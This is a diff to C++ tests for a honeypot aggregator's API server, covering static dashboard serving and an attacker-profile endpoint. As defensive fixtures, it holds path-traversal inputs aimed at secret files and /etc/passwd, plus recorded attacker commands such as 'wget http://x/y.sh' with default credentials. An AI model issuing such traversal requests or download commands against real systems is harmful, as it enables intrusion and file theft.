@@ -3,6 +3,7 @@
 // driven by a synchronous Beast client.
 #include "core/api/api_server.hpp"
 
+#include "core/api/dashboard.hpp"
 #include "core/auth.hpp"
 #include "core/command_router.hpp"
 #include "core/metrics.hpp"
@@ -22,6 +23,7 @@
 #include <chrono>
 #include <cstdlib>
 #include <filesystem>
+#include <fstream>
 #include <functional>
 #include <mutex>
 #include <optional>
@@ -71,7 +73,7 @@ class ApiServerTest : public ::testing::Test {
 
   void start() {
     server_ = std::make_unique<ApiServer>(
-        io_, ApiContext{config_, *registry_, *storage_, *router_, *auth_, metrics_, pool_}, nullptr);
+        io_, ApiContext{config_, *registry_, *storage_, *router_, *auth_, metrics_, pool_, dashboard_}, nullptr);
     ASSERT_EQ(server_->start(), "");
     ASSERT_NE(server_->port(), 0);
     for (int i = 0; i < 2; ++i) {
@@ -133,6 +135,30 @@ class ApiServerTest : public ::testing::Test {
 
   Response get(const std::string& target) { return request(http::verb::get, target); }
 
+  /// A request with extra headers, without a token unless given; HEAD
+  /// answers are read without their body.
+  Response fetch(http::verb method, const std::string& target,
+                 const std::vector<std::pair<std::string, std::string>>& headers = {}, const std::string& token = {}) {
+    auto socket = connect();
+    http::request<http::string_body> req{method, target, 11};
+    req.set(http::field::host, "127.0.0.1");
+    if (!token.empty()) {
+      req.set(http::field::authorization, "Bearer " + token);
+    }
+    for (const auto& [name, value] : headers) {
+      req.set(name, value);
+    }
+    req.keep_alive(false);
+    req.prepare_payload();
+    http::write(socket, req);
+    http::response_parser<http::string_body> parser;
+    parser.body_limit(64 * 1024 * 1024);
+    parser.skip(method == http::verb::head);
+    buffer_.clear();
+    http::read(socket, buffer_, parser);
+    return parser.release();
+  }
+
   static json::value body_json(const Response& res) {
     boost::system::error_code ec;
     auto v = json::parse(res.body(), ec);
@@ -181,6 +207,7 @@ class ApiServerTest : public ::testing::Test {
   std::unique_ptr<CommandRouter> router_;
   std::unique_ptr<Auth> auth_;
   std::string token_;
+  std::shared_ptr<const api::Dashboard> dashboard_;  ///< null: no dashboard (dashboard_dir: none)
   std::unique_ptr<ApiServer> server_;
   std::vector<std::thread> threads_;
   asio::io_context client_io_;
@@ -729,6 +756,338 @@ TEST_F(ApiServerTest, PrometheusMetrics) {
     EXPECT_NE(text.find(line), std::string::npos) << line << "\n" << text;
   }
   EXPECT_GE(metrics_.api_requests_total.load(), 2U);
+}
+
+// ---- dashboard (static files) ----
+
+constexpr std::string_view kCsp =
+    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; "
+    "connect-src 'self' ws: wss:; frame-ancestors 'none'; base-uri 'none'; form-action 'self'";
+
+/// A dashboard folder as Vite builds it, beside a file that must never be
+/// served.
+class DashboardApiTest : public ApiServerTest {
+ protected:
+  void SetUp() override {
+    ApiServerTest::SetUp();
+    web_ = dir_ / "web";
+    std::filesystem::create_directories(web_ / "assets");
+    write(web_ / "index.html", kIndex);
+    write(web_ / "favicon.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
+    write(web_ / "assets" / "index-4f3a2b1c.js", kScript);
+    write(web_ / "assets" / "index-4f3a2b1c.js.gz", "GZIPPED-SCRIPT");
+    write(web_ / "assets" / "index-9e8d7c6b.css", "body{margin:0}");
+    write(web_ / "metrics", "a file named like an API path");
+    write(dir_ / "secret.txt", kSecret);
+    std::filesystem::create_symlink(dir_ / "secret.txt", web_ / "assets" / "escape.txt");
+    auto loaded = api::Dashboard::load(web_);
+    ASSERT_TRUE(std::holds_alternative<api::Dashboard>(loaded)) << std::get<std::string>(loaded);
+    dashboard_ = std::make_shared<const api::Dashboard>(std::move(std::get<api::Dashboard>(loaded)));
+  }
+
+  static void write(const std::filesystem::path& file, std::string_view content) {
+    std::ofstream(file, std::ios::binary) << content;
+  }
+
+  /// The headers every dashboard response carries.
+  static void expect_security_headers(const Response& res, const std::string& what) {
+    EXPECT_EQ(res["Content-Security-Policy"], kCsp) << what;
+    EXPECT_EQ(res["X-Frame-Options"], "DENY") << what;
+    EXPECT_EQ(res["Referrer-Policy"], "no-referrer") << what;
+    EXPECT_EQ(res["X-Content-Type-Options"], "nosniff") << what;
+  }
+
+  static constexpr std::string_view kIndex =
+      "<!doctype html><html><head><script type=\"module\" src=\"/assets/index-4f3a2b1c.js\"></script></head></html>";
+  static constexpr std::string_view kScript = "console.log('honeycomb');";
+  static constexpr std::string_view kSecret = "TOP-SECRET-NOT-FOR-THE-DASHBOARD";
+  std::filesystem::path web_;
+};
+
+TEST_F(DashboardApiTest, FilesAreServedWithoutATokenWithTheirTypesAndCaching) {
+  start();
+  for (const char* target : {"/", "/index.html", "/?from=bookmark"}) {
+    auto res = fetch(http::verb::get, target);
+    ASSERT_EQ(res.result(), http::status::ok) << target;
+    EXPECT_EQ(res.body(), kIndex) << target;
+    EXPECT_EQ(res[http::field::content_type], "text/html; charset=utf-8") << target;
+    EXPECT_EQ(res[http::field::cache_control], "no-cache") << target;
+    EXPECT_FALSE(res[http::field::etag].empty()) << target;
+    expect_security_headers(res, target);
+  }
+
+  auto res = fetch(http::verb::get, "/assets/index-4f3a2b1c.js");
+  ASSERT_EQ(res.result(), http::status::ok);
+  EXPECT_EQ(res.body(), kScript);
+  EXPECT_EQ(res[http::field::content_type], "text/javascript; charset=utf-8");
+  EXPECT_EQ(res[http::field::cache_control], "public, max-age=31536000, immutable");
+  EXPECT_EQ(res[http::field::vary], "Accept-Encoding");
+  EXPECT_TRUE(res[http::field::content_encoding].empty());
+  expect_security_headers(res, "script");
+
+  res = fetch(http::verb::get, "/assets/index-9e8d7c6b.css");
+  ASSERT_EQ(res.result(), http::status::ok);
+  EXPECT_EQ(res[http::field::content_type], "text/css; charset=utf-8");
+  EXPECT_EQ(res[http::field::cache_control], "public, max-age=31536000, immutable");
+
+  res = fetch(http::verb::get, "/favicon.svg");
+  ASSERT_EQ(res.result(), http::status::ok);
+  EXPECT_EQ(res[http::field::content_type], "image/svg+xml");
+  EXPECT_EQ(res[http::field::cache_control], "no-cache");
+  expect_security_headers(res, "favicon");
+
+  // HEAD: the length without the body; the connection goes on with the
+  // next response right after the header.
+  auto socket = connect();
+  buffer_.clear();
+  for (const char* target : {"/", "/favicon.svg"}) {
+    const bool head = std::string_view(target) == "/";
+    http::request<http::empty_body> req{head ? http::verb::head : http::verb::get, target, 11};
+    req.set(http::field::host, "127.0.0.1");
+    req.keep_alive(true);
+    http::write(socket, req);
+    http::response_parser<http::string_body> parser;
+    parser.skip(head);
+    http::read(socket, buffer_, parser);
+    res = parser.release();
+    ASSERT_EQ(res.result(), http::status::ok) << target;
+    if (head) {
+      EXPECT_EQ(res[http::field::content_length], std::to_string(kIndex.size()));
+      EXPECT_EQ(res[http::field::content_type], "text/html; charset=utf-8");
+      EXPECT_TRUE(res.body().empty());
+      expect_security_headers(res, "HEAD");
+    } else {
+      EXPECT_EQ(res.body(), "<svg xmlns=\"http://www.w3.org/2000/svg\"/>");
+    }
+  }
+}
+
+TEST_F(DashboardApiTest, EtagRevalidationAndPrecompressedSiblings) {
+  start();
+  auto res = fetch(http::verb::get, "/index.html");
+  const std::string etag(res[http::field::etag]);
+  ASSERT_FALSE(etag.empty());
+  res = fetch(http::verb::get, "/index.html", {{"If-None-Match", "\"other\", " + etag}});
+  EXPECT_EQ(res.result(), http::status::not_modified);
+  EXPECT_TRUE(res.body().empty());
+  EXPECT_EQ(res[http::field::etag], etag);
+  expect_security_headers(res, "304");
+  EXPECT_EQ(fetch(http::verb::get, "/index.html", {{"If-None-Match", "\"other\""}}).result(), http::status::ok);
+
+  res = fetch(http::verb::get, "/assets/index-4f3a2b1c.js", {{"Accept-Encoding", "br, gzip;q=0.8"}});
+  ASSERT_EQ(res.result(), http::status::ok);
+  EXPECT_EQ(res.body(), "GZIPPED-SCRIPT");
+  EXPECT_EQ(res[http::field::content_encoding], "gzip");
+  EXPECT_EQ(res[http::field::content_type], "text/javascript; charset=utf-8");
+  const std::string gzip_etag(res[http::field::etag]);
+  EXPECT_NE(gzip_etag, std::string(fetch(http::verb::get, "/assets/index-4f3a2b1c.js")[http::field::etag]));
+  res = fetch(http::verb::get, "/assets/index-4f3a2b1c.js", {{"Accept-Encoding", "gzip;q=0"}});
+  EXPECT_EQ(res.body(), kScript);
+  // The sibling is an encoding of its file, not a file of its own.
+  EXPECT_EQ(fetch(http::verb::get, "/assets/index-4f3a2b1c.js.gz").result(), http::status::unauthorized);
+}
+
+TEST_F(DashboardApiTest, TraversalAndEverythingElseStayClosed) {
+  start();
+  for (const char* target : {"/../secret.txt",
+                             "/assets/../../secret.txt",
+                             "/assets/../../etc/passwd",
+                             "/%2e%2e/secret.txt",
+                             "/assets/%2e%2e/%2e%2e/secret.txt",
+                             "/assets/..%2f..%2fsecret.txt",
+                             "/assets/%2E%2E/index.html",
+                             "/assets/escape.txt",
+                             "/assets\\..\\..\\secret.txt",
+                             "//secret.txt",
+                             "/./index.html",
+                             "/assets//index-4f3a2b1c.js",
+                             "/assets/./index-4f3a2b1c.js",
+                             "/index.html/",
+                             "/assets/",
+                             "/assets",
+                             "/nope.js",
+                             "/web/index.html",
+                             "/api/v1/nodes",
+                             "/api/v1/nope",
+                             "/metrics",
+                             "/api"}) {
+    auto res = fetch(http::verb::get, target);
+    EXPECT_TRUE(res.result() == http::status::unauthorized || res.result() == http::status::not_found ||
+                res.result() == http::status::bad_request)
+        << target << ": " << res.result_int();
+    EXPECT_EQ(res.body().find(kSecret), std::string::npos) << target;
+    EXPECT_EQ(res.body().find("a file named like an API path"), std::string::npos) << target;
+    EXPECT_EQ(res.body().find("root:"), std::string::npos) << target;
+  }
+  // Unknown paths and the API are the token's, as before.
+  for (const char* target : {"/nope.js", "/assets/missing-00000000.js", "/api/v1/nodes", "/metrics"}) {
+    auto res = fetch(http::verb::get, target);
+    EXPECT_EQ(res.result(), http::status::unauthorized) << target;
+    EXPECT_EQ(res[http::field::www_authenticate], "Bearer realm=\"honeycomb\"") << target;
+    EXPECT_TRUE(res["Content-Security-Policy"].empty()) << target;
+  }
+  EXPECT_EQ(fetch(http::verb::post, "/").result(), http::status::unauthorized);
+  EXPECT_EQ(fetch(http::verb::get, "/assets/missing-00000000.js", {}, token_).result(), http::status::not_found);
+  EXPECT_EQ(fetch(http::verb::get, "/api/v1/nodes", {}, token_).result(), http::status::ok);
+  auto metrics = fetch(http::verb::get, "/metrics", {}, token_);
+  EXPECT_EQ(metrics.result(), http::status::ok);
+  EXPECT_NE(metrics.body().find("honeycomb_api_requests_total"), std::string::npos);
+}
+
+TEST_F(DashboardApiTest, RequestsCountAgainstTheRateLimit) {
+  config_.api_rate_per_second = 3;
+  start();
+  int limited = 0;
+  for (int i = 0; i < 10; ++i) {
+    limited += fetch(http::verb::get, "/").result() == http::status::too_many_requests ? 1 : 0;
+  }
+  EXPECT_GE(limited, 5);
+}
+
+TEST_F(ApiServerTest, DashboardNotBuiltSaysHowToBuildIt) {
+  dashboard_ = std::make_shared<const api::Dashboard>();
+  start();
+  for (const char* target : {"/", "/index.html"}) {
+    auto res = fetch(http::verb::get, target);
+    ASSERT_EQ(res.result(), http::status::ok) << target;
+    EXPECT_EQ(res[http::field::content_type], "text/html; charset=utf-8");
+    EXPECT_NE(res.body().find("scripts/build-web.sh"), std::string::npos);
+    EXPECT_EQ(res.body().find("src="), std::string::npos) << "self-contained";
+    EXPECT_EQ(res.body().find("href="), std::string::npos) << "self-contained";
+    EXPECT_EQ(res["Content-Security-Policy"], kCsp);
+    EXPECT_EQ(res[http::field::cache_control], "no-store");
+  }
+  EXPECT_EQ(fetch(http::verb::get, "/assets/index-4f3a2b1c.js").result(), http::status::unauthorized);
+  EXPECT_EQ(fetch(http::verb::get, "/favicon.svg").result(), http::status::unauthorized);
+  EXPECT_EQ(fetch(http::verb::get, "/api/v1/nodes").result(), http::status::unauthorized);
+}
+
+TEST_F(ApiServerTest, DashboardOffLeavesTheRootToTheToken) {
+  std::string error;
+  spdlog::logger log("test");
+  dashboard_ = api::open_dashboard("none", log, error);
+  EXPECT_EQ(dashboard_, nullptr);
+  EXPECT_EQ(error, "");
+  start();
+  for (const char* target : {"/", "/index.html", "/favicon.svg"}) {
+    auto res = fetch(http::verb::get, target);
+    EXPECT_EQ(res.result(), http::status::unauthorized) << target;
+    EXPECT_TRUE(res["Content-Security-Policy"].empty()) << target;
+  }
+  EXPECT_EQ(fetch(http::verb::get, "/", {}, token_).result(), http::status::not_found);
+}
+
+// ---- info and attackers ----
+
+TEST_F(ApiServerTest, InfoTellsTheStreamAndTheTokensScope) {
+  config_.ws_listen = Listen{"127.0.0.1", 9443};
+  const auto viewer = auth_->create("viewer", Scope::read);
+  start();
+  auto res = fetch(http::verb::get, "/api/v1/info", {}, viewer);
+  ASSERT_EQ(res.result(), http::status::ok) << res.body();
+  auto v = body_json(res);
+  EXPECT_TRUE(v.at("version").is_string());
+  EXPECT_FALSE(v.at("version").as_string().empty());
+  EXPECT_EQ(v.at("ws_port"), 9443);
+  EXPECT_EQ(v.at("ws_path"), "/api/v1/stream");
+  EXPECT_EQ(v.at("ws_tls"), false);
+  EXPECT_EQ(v.at("token"), json::parse(R"({"name":"viewer","scope":"read"})"));
+  EXPECT_EQ(v.as_object().size(), 5U);
+
+  server_->set_ws_port(41234);  // the WebSocket server's bound port (ws_listen port 0)
+  v = body_json(get("/api/v1/info"));
+  EXPECT_EQ(v.at("ws_port"), 41234);
+  EXPECT_EQ(v.at("token"), json::parse(R"({"name":"test","scope":"admin"})"));
+  const auto manager = auth_->create("ops", Scope::manage);
+  EXPECT_EQ(body_json(fetch(http::verb::get, "/api/v1/info", {}, manager)).at("token").at("scope"), "manage");
+
+  EXPECT_EQ(fetch(http::verb::get, "/api/v1/info").result(), http::status::unauthorized);
+  EXPECT_EQ(request(http::verb::post, "/api/v1/info").result(), http::status::method_not_allowed);
+  EXPECT_EQ(get("/api/v1/info?x=1").result(), http::status::bad_request);
+}
+
+TEST_F(ApiServerTest, AttackerAcrossNodesAndPots) {
+  register_node(kBigNode, "sensor-1");
+  const std::string ip = "203.0.113.9";
+  std::vector<events::Event> batch;
+  auto add = [&](const std::string& src, protocol::NodeId node, const std::string& pot, const std::string& type,
+                 std::int64_t t, const std::string& user, const std::string& password, const std::string& command,
+                 const std::string& session) {
+    auto e = event(pot, type, src, t);
+    e.node_id = node;
+    e.username = user;
+    e.password = password;
+    e.command = command;
+    e.session = session;
+    batch.push_back(std::move(e));
+  };
+  add(ip, kBigNode, "p1", "cowrie.login.failed", 1'700'000'000, "root", "123456", "", "s1");
+  add(ip, kBigNode, "p1", "cowrie.login.failed", 1'700'000'001, "root", "123456", "", "s1");
+  add(ip, kBigNode, "p1", "cowrie.login.success", 1'700'000'002, "root", "toor", "", "s1");
+  add(ip, kBigNode, "p1", "cowrie.command.input", 1'700'000'003, "", "", "uname -a", "s1");
+  add(ip, 7, "p2", "cowrie.login.failed", 1'700'000'100, "admin", "", "", "s2");
+  add(ip, 7, "p2", "cowrie.command.input", 1'700'000'101, "", "", "uname -a", "s2");
+  add(ip, 7, "p2", "cowrie.command.input", 1'700'000'102, "", "", "wget http://x/y.sh", "s2");
+  add("198.51.100.7", kBigNode, "p1", "cowrie.login.failed", 1'700'000'500, "root", "123456", "id", "s9");
+  add("2001:db8::9", kBigNode, "p1", "cowrie.login.failed", 1'700'000'600, "v6", "pw", "", "s6");
+  store(std::move(batch));
+  start();
+
+  auto res = get("/api/v1/attackers/" + ip);
+  ASSERT_EQ(res.result(), http::status::ok) << res.body();
+  EXPECT_NE(res.body().find("\"node_id\":16298147445003569694"), std::string::npos) << "exact uint64";
+  auto v = body_json(res);
+  EXPECT_EQ(v.at("src_ip"), ip.c_str());
+  EXPECT_EQ(v.at("event_count"), 7);
+  EXPECT_EQ(v.at("first_seen"), "2023-11-14T22:13:20.000000Z");
+  EXPECT_EQ(v.at("last_seen"), "2023-11-14T22:15:02.000000Z");
+  ASSERT_EQ(v.at("nodes").as_array().size(), 2U);
+  EXPECT_EQ(v.at("nodes").at(0).at("node_id").as_uint64(), kBigNode);
+  EXPECT_EQ(v.at("nodes").at(0).at("node_name"), "sensor-1");
+  EXPECT_EQ(v.at("nodes").at(0).at("count"), 4);
+  EXPECT_EQ(v.at("nodes").at(1), json::parse(R"({"node_id":7,"node_name":null,"count":3})"));
+  EXPECT_EQ(v.at("pots"), json::parse(R"([{"pot_id":"p1","pot_type":"cowrie","count":4},
+                                           {"pot_id":"p2","pot_type":"cowrie","count":3}])"));
+  EXPECT_EQ(v.at("event_types"), json::parse(R"([{"value":"cowrie.command.input","count":3},
+                                                  {"value":"cowrie.login.failed","count":3},
+                                                  {"value":"cowrie.login.success","count":1}])"));
+  EXPECT_EQ(v.at("credentials"), json::parse(R"([{"username":"root","password":"123456","count":2},
+                                                  {"username":"admin","password":null,"count":1},
+                                                  {"username":"root","password":"toor","count":1}])"));
+  EXPECT_EQ(v.at("commands"), json::parse(R"([{"value":"uname -a","count":2},
+                                               {"value":"wget http://x/y.sh","count":1}])"));
+  ASSERT_EQ(v.at("sessions").as_array().size(), 2U);
+  EXPECT_EQ(v.at("sessions").at(0), json::parse(R"({"session":"s2","pot_id":"p2","node_id":7,
+      "first":"2023-11-14T22:15:00.000000Z","last":"2023-11-14T22:15:02.000000Z","events":3})"));
+  EXPECT_EQ(v.at("sessions").at(1).at("session"), "s1");
+  EXPECT_EQ(v.at("sessions").at(1).at("events"), 4);
+  EXPECT_EQ(v.at("sessions").at(1).at("node_id").as_uint64(), kBigNode);
+
+  // The same address written IPv4-mapped; an IPv6 address.
+  v = body_json(get("/api/v1/attackers/::ffff:" + ip));
+  EXPECT_EQ(v.at("src_ip"), ip.c_str());
+  EXPECT_EQ(v.at("event_count"), 7);
+  v = body_json(get("/api/v1/attackers/2001:db8:0:0::9"));
+  EXPECT_EQ(v.at("src_ip"), "2001:db8::9");
+  EXPECT_EQ(v.at("event_count"), 1);
+  EXPECT_EQ(v.at("credentials"), json::parse(R"([{"username":"v6","password":"pw","count":1}])"));
+
+  // Never seen: zeros, not 404.
+  res = get("/api/v1/attackers/192.0.2.200");
+  ASSERT_EQ(res.result(), http::status::ok);
+  EXPECT_EQ(body_json(res), json::parse(R"({"src_ip":"192.0.2.200","event_count":0,"first_seen":null,
+      "last_seen":null,"nodes":[],"pots":[],"event_types":[],"credentials":[],"commands":[],"sessions":[]})"));
+
+  for (const char* bad : {"nope", "203.0.113", "203.0.113.9.1", "10.0.0.0%2F8", "203.0.113.256", "%00", "1.2.3.4%20"}) {
+    auto r = get(std::string("/api/v1/attackers/") + bad);
+    EXPECT_EQ(r.result(), http::status::bad_request) << bad << ": " << r.body();
+    EXPECT_EQ(body_json(r).at("status"), 400) << bad;
+  }
+  EXPECT_EQ(get("/api/v1/attackers").result(), http::status::not_found);
+  EXPECT_EQ(get("/api/v1/attackers/" + ip + "?top=5").result(), http::status::bad_request);
+  EXPECT_EQ(fetch(http::verb::get, "/api/v1/attackers/" + ip).result(), http::status::unauthorized);
+  const auto viewer = auth_->create("viewer", Scope::read);
+  EXPECT_EQ(fetch(http::verb::get, "/api/v1/attackers/" + ip, {}, viewer).result(), http::status::ok);
 }
 
 }  // namespace
